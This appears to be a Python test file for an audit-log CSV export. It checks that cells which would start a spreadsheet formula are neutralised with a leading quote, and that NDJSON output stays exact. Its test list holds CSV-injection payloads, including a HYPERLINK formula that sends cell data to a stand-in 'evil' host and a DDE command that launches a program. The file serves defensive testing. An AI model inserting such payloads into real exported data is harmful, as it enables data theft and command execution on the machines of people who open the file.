"""`audit export --format csv`: no cell starts a spreadsheet formula; NDJSON is exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from mcp_gateway.audit.export import CsvWriter, neutralise, write_ndjson

ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(value: str) -> None:
    out = io.StringIO()
    CsvWriter(out).write({"seq": 1, "tool": value, "latency_ms": -1.5})
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["tool"] == "'" + value
    assert row["latency_ms"] == "-1.5"  # numbers are not text a request chose


def test_other_cells_are_left_as_they_are() -> None:
    assert neutralise("read_file") == "read_file"
    assert neutralise("x=1") == "x=1"
    assert neutralise(None) is None


def test_ndjson_keeps_every_value_exactly() -> None:
    out = io.StringIO()
    write_ndjson([{"tool": ATTACKS[0]}], out)
    assert json.loads(out.getvalue()) == {"tool": ATTACKS[0]}
